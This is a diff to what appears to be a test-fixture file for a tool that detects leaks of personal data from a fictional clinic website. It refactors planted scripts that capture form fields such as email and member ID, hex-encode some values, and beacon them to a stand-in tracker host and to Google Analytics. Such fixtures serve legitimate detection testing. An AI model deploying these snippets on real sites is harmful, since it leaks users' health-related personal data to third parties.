@@ -21,14 +21,15 @@ PLANTED = {
     ("email", "collector.tracker.example", "json-escaped"),
 }
 BANNER = """
-<div id="cookie-notice" style="position:fixed; bottom:0; left:0; background:#eee; padding:1em">
+<div id="cookie-notice" style="position:fixed; bottom:0">
 We use cookies and similar technologies for analytics.
 <button onclick="choose('yes')">Accept all</button> <button onclick="choose('no')">Reject all</button></div>
 <script>
-function choose(what) { localStorage.choice = what; document.getElementById('cookie-notice').remove(); gate(); }
+const notice = document.getElementById('cookie-notice');
+function choose(what) { localStorage.choice = what; notice.remove(); gate(); }
 function load(src) { const s = document.createElement('script'); s.src = src; document.head.append(s); }
 function gate() { if (localStorage.choice === 'yes') load('https://s.pinimg.com/ct/core.js'); }
-if (localStorage.choice) document.getElementById('cookie-notice').remove();
+if (localStorage.choice) notice.remove();
 gate();
 </script>"""
 HOME = f"""<!doctype html><title>Maple Family Clinic</title><h1>Welcome</h1>
@@ -112,10 +113,11 @@ addEventListener('change', (event) => {
   navigator.sendBeacon('https://collector.tracker.example/in', new Blob([body]));
 }, true);"""
 GTM = """
-const tell = (event) => { if (event.target.name === 'email') navigator.sendBeacon(
-  'https://www.google-analytics.com/g/collect?v=2&tid=G-ABC123&dl=' + encodeURIComponent(event.target.value)); };
-addEventListener('change', tell, true);
-navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-ABC123&en=page_view');"""
+const at = 'https://www.google-analytics.com/g/collect?v=2&tid=G-ABC123';
+addEventListener('change', (event) => {
+  if (event.target.name === 'email') navigator.sendBeacon(at + '&dl=' + encodeURIComponent(event.target.value));
+}, true);
+navigator.sendBeacon(at + '&en=page_view');"""
 JOTFORM = """<!doctype html><form><input name="member" placeholder="Member ID"></form><script>
 document.forms[0].member.addEventListener('change', (event) => {
   const hex = [...event.target.value].map((each) => each.charCodeAt(0).toString(16)).join('');
